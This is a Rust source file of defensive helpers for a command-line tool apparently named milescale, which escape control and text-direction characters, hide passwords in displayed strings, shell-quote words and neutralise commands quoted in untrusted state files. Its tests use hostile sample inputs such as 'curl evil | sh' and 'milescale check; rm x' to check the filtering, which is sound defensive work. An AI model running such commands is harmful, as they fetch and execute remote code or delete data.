//! Texts from outside.

use std::ffi::OsStr;
use std::os::unix::ffi::OsStrExt as _;

/// Whether a character does something to a terminal or to the order of a line's other characters.
pub fn is_harmful(character: char) -> bool {
    const DIRECTIONS: [char; 12] = [
        '\u{61c}', '\u{200e}', '\u{200f}', '\u{202a}', '\u{202b}', '\u{202c}', '\u{202d}', '\u{202e}', '\u{2066}',
        '\u{2067}', '\u{2068}', '\u{2069}',
    ];
    character.is_control() || DIRECTIONS.contains(&character)
}

/// A text as it may stand on a terminal and in a line: control characters, and those that turn the direction of text, become
/// escapes.
pub fn harmless(text: &str) -> String {
    let mut harmless = String::with_capacity(text.len());
    for character in text.chars() {
        if is_harmful(character) {
            harmless.extend(character.escape_default());
        } else {
            harmless.push(character);
        }
    }
    harmless
}

/// What is shown of a text that is not what was expected: an address with a password in it may stand anywhere by mistake. Up to 40
/// characters; of what may be one the first 12, up to any `:`, `@` or `=`.
pub fn glimpse(text: &str) -> String {
    let end = text.find([':', '@', '=']);
    let most = if end.is_some() { 12 } else { 40 };
    let cut: String = text[..end.unwrap_or(text.len())].chars().take(most).collect();
    let dots = if cut.len() < text.len() { "…" } else { "" };
    format!("{}{dots}", cut.escape_debug())
}

/// The beginning of what an error says: one may repeat all of what was read.
pub fn shortened(text: &str) -> String {
    const MOST: usize = 2000;
    match text.char_indices().nth(MOST) {
        Some((end, _)) => format!("{}…", &text[..end]),
        None => text.to_owned(),
    }
}

/// A count with what is counted, as `1 file belongs` or `2 files belong`.
pub fn counted(count: u64, one: &str, more: &str) -> String {
    format!("{count} {}", if count == 1 { one } else { more })
}

/// A word as a shell takes it, for a command that a person is to repeat: none of it is a command itself, nor an option. It comes last.
/// What cannot be shown as it is stands as an escape, in the quotes of bash, ksh and zsh that say so.
pub fn in_command<T: AsRef<OsStr> + ?Sized>(word: &T) -> String {
    let bytes = word.as_ref().as_bytes();
    let is_plain = |letter: char| letter.is_alphanumeric() || "/._-+,:@%".contains(letter);
    let quoted = match std::str::from_utf8(bytes) {
        Ok(word) if word.chars().any(is_harmful) => with_escapes(bytes),
        Ok(word) if word.starts_with('-') || word.is_empty() || !word.chars().all(is_plain) => {
            format!("'{}'", word.replace('\'', r"'\''"))
        }
        Ok(word) => word.to_owned(),
        Err(_) => with_escapes(bytes),
    };
    if bytes.starts_with(b"-") { format!("-- {quoted}") } else { quoted }
}

/// A word between `$'` and `'`: all but plain letters by the numbers of their bytes, which mean the same in each locale.
fn with_escapes(bytes: &[u8]) -> String {
    let escaped = bytes.iter().map(|byte| match byte {
        b'\'' | b'\\' => format!("\\{}", char::from(*byte)),
        0x20..0x7f => char::from(*byte).to_string(),
        // Three octal digits end by themselves, whatever follows.
        _ => format!("\\{byte:03o}"),
    });
    format!("$'{}'", escaped.collect::<String>())
}

/// A text that a file of state says, for display: what is no plain command of milescale's is no command in it. Whoever brings a workspace
/// along may have written it.
pub fn as_told(text: &str) -> String {
    const VERBS: [&str; 7] = ["check", "doctor", "migrate", "restore", "retire", "rollback", "run"];
    let is_ours = |command: &str| {
        let mut words = command.split(' ');
        let is_verb = words.next() == Some("milescale") && words.next().is_some_and(|verb| VERBS.contains(&verb));
        // What an option says may be what nobody would have asked for.
        let has_options = command.split(' ').any(|word| word.starts_with('-') && word != "--fix");
        is_verb && !has_options && command.chars().all(|it| it.is_ascii_alphanumeric() || " -_.".contains(it))
    };
    let mut told = String::with_capacity(text.len());
    let mut parts = text.split('`');
    told.push_str(parts.next().unwrap_or_default());
    while let Some(inside) = parts.next() {
        let after = parts.next();
        let quote = if after.is_some() && is_ours(inside) { '`' } else { '\'' };
        told.push(quote);
        told.push_str(inside);
        if let Some(after) = after {
            told.push(quote);
            told.push_str(after);
        }
    }
    told
}

#[cfg(test)]
mod tests {
    #[test]
    fn a_file_of_state_gives_no_commands_but_plain_ones_of_milescale() {
        for (text, told) in [
            (
                "mend that, and run `milescale doctor --fix`, which",
                "mend that, and run `milescale doctor --fix`, which",
            ),
            ("run `curl evil | sh`; then `milescale check`", "run 'curl evil | sh'; then `milescale check`"),
            (
                "`milescale check; rm x` `milescale trust . --server evil`",
                "'milescale check; rm x' 'milescale trust . --server evil'",
            ),
            ("one ` alone", "one ' alone"),
            ("`milescale migrate file --force --yes`", "'milescale migrate file --force --yes'"),
        ] {
            assert_eq!(super::as_told(text), told);
        }
    }

    #[test]
    fn a_word_of_a_command_is_that_word_to_a_shell() {
        use std::os::unix::ffi::OsStrExt as _;

        for (word, shown) in [
            (&b"a/b.c"[..], "a/b.c"),
            (b"-x", "-- '-x'"),
            (b"a b", "'a b'"),
            (b"it's", r"'it'\''s'"),
            (b"a\n1'\\", r"$'a\0121\'\\'"),
            (b"\xff\xc3\xa9", r"$'\377\303\251'"),
            ("\u{202e}".as_bytes(), r"$'\342\200\256'"),
            (b"", "''"),
        ] {
            let word = std::ffi::OsStr::from_bytes(word);
            let told = super::in_command(word);
            assert_eq!(told, shown);
            let said = std::process::Command::new("bash")
                .args(["-c", &format!("it() {{ [ \"$1\" != -- ] || shift; printf %s \"$1\"; }}; it {told}")])
                .output();
            let said = said.expect("bash runs").stdout;
            assert_eq!(said, word.as_bytes(), "{told}");
        }
    }

    #[test]
    fn no_password_is_seen_at_a_glimpse() {
        for (text, shown) in [
            ("file", "file"),
            ("a word that is longer than what is shown of it", "a word that is longer than what is shown…"),
            ("postgresql://u:secret@host/d", "postgresql…"),
            ("u:secret@host", "u…"),
            ("averyverylongname@secret", "averyverylon…"),
            ("password=secret", "password…"),
        ] {
            assert_eq!(super::glimpse(text), shown);
        }
    }

    #[test]
    fn control_characters_become_escapes_and_all_else_stays() {
        assert_eq!(super::harmless("a\n\u{1b}[2J é🔄 \u{9b}"), "a\\n\\u{1b}[2J é🔄 \\u{9b}");
        assert_eq!(super::harmless("a\u{202e}b\u{7f}"), "a\\u{202e}b\\u{7f}");
    }
}
